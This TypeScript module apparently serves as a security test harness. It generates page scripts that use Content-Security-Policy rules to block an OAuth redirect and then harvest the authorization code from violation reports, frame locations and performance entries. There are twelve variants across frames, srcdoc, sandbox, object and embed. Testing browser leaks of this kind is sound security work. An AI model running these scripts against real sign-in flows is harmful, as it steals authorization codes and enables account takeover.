/**
 * Ways in which page script has the redirect to the callback page blocked before worker and server see it, and reads what the browser
 * tells of the address. Chromium 156 tells it in each of them. Others were tried in which it does not: policies for forms, pictures,
 * scripts, connections and prefetches; frames that are stopped, removed or sandboxed in the middle.
 */

/** Runs in the page: records what a policy reports in a document. */
const helpers = `
  const seen = [];
  const record = (target) => {
    target.addEventListener('securitypolicyviolation', (event) => seen.push(JSON.stringify([event.blockedURI, event.sourceFile, event.sample, event.documentURI, event.referrer])));
    return target;
  };
  const policy = (target, text) => {
    const meta = target.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = text;
    target.head.append(meta);
  };
  const frame = (target, attributes = {}) => {
    const made = target.createElement('iframe');
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    return made;
  };
  /** Until the browser has told of a blocked address, or the frame shows a page of this origin, as it does after a redirect home. */
  const settled = (element) => new Promise((resolve) => {
    const look = () => {
      let isHome = false;
      try {
        isHome = /[?]identity-worker=|signed-in/.test(element.contentWindow.location.href);
      } catch { /* Of another origin. */ }
      if (isHome || seen.some((text) => text.includes('code='))) resolve();
      else requestAnimationFrame(look);
      // What is told of another address, as of a request of the page's own, is not all that will be told.
      if (seen.length > 0) setTimeout(resolve, 1_000);
    };
    element.addEventListener('load', look);
    // Told before or after it.
    element.addEventListener('error', () => setTimeout(resolve, 500));
  });
  const look = (element) => {
    try {
      const view = element.contentWindow;
      seen.push(view.location.href, view.document.referrer, view.document.URL);
      for (const { name } of view.performance.getEntries()) seen.push(name);
      for (const { url } of view.navigation?.entries() ?? []) seen.push(url);
    } catch { /* Of another origin. */ }
    for (const entry of performance.getEntries()) seen.push(entry.name);
  };
  const show = async (target, element, url, attribute = 'src') => {
    element.setAttribute(attribute, url);
    const done = settled(element);
    target.body.append(element);
    await done;
    look(element);
  };
  record(document);
`;

const inFrame = (directive: string): string => `
  policy(document, \`${directive}\`);
  await show(document, frame(document), url);
`;

/** Name → page code with the authorization URL `url`, and the origins `portal` and `elsewhere` in scope; `seen` gets what it reads. */
export const blockedCallbacks: Readonly<Record<string, string>> = {
  'frame-src': inFrame('frame-src ${portal}'),
  'frame-src that lets the sign-in origin in': inFrame('frame-src ${portal} ${elsewhere}'),
  'frame-src with the path of the portal’s page': inFrame('frame-src ${url.split("?")[0]}'),
  'child-src': inFrame('child-src ${portal}'),
  'default-src': inFrame("default-src 'unsafe-inline' ${portal}"),
  'frame-src in a srcdoc frame': `
    const child = frame(document, { srcdoc: \`<meta http-equiv="Content-Security-Policy" content="frame-src \${portal}"><body>\` });
    const loaded = new Promise((resolve) => child.addEventListener('load', resolve));
    document.body.append(child);
    await loaded;
    record(child.contentDocument);
    await show(child.contentDocument, frame(child.contentDocument), url);
  `,
  'frame-src in a blank frame': `
    const child = frame(document);
    document.body.append(child);
    record(child.contentDocument);
    policy(child.contentDocument, \`frame-src \${portal}\`);
    await show(child.contentDocument, frame(child.contentDocument), url);
  `,
  'frame-src in a blank frame of a blank frame': `
    const outer = frame(document);
    document.body.append(outer);
    const child = frame(outer.contentDocument);
    outer.contentDocument.body.append(child);
    record(child.contentDocument);
    policy(child.contentDocument, \`frame-src \${portal}\`);
    await show(child.contentDocument, frame(child.contentDocument), url);
  `,
  'frame-src around a sandboxed frame': `
    policy(document, \`frame-src \${portal}\`);
    await show(document, frame(document, { sandbox: 'allow-scripts allow-forms allow-same-origin' }), url);
  `,
  'a frame whose place is taken again': `
    policy(document, \`frame-src \${portal}\`);
    const element = frame(document);
    await show(document, element, url);
    await show(document, element, url);
  `,
  'object-src': `
    policy(document, \`object-src \${portal}; frame-src \${portal}\`);
    const element = document.createElement('object');
    element.type = 'text/html';
    await show(document, element, url, 'data');
  `,
  'object-src with embed': `
    policy(document, \`object-src \${portal}; frame-src \${portal}\`);
    const element = document.createElement('embed');
    element.type = 'text/html';
    await show(document, element, url);
  `,
};

/**
 * The page code of one way.
 *
 * @param url - Authorization URL of the attacker.
 * @param elsewhere - Origin of the redirect URI.
 * @returns Page code that evaluates to all that it reads.
 */
export const blockedCallbackCode = (name: string, url: string, elsewhere: string): string =>
  `(async () => {
    const url = ${JSON.stringify(url)};
    const portal = new URL(url).origin;
    const elsewhere = ${JSON.stringify(elsewhere)};
    ${helpers}
    try {
      ${blockedCallbacks[name]}
    } catch (error) {
      seen.push(String(error));
    }
    return seen.join(' ');
  })()`;
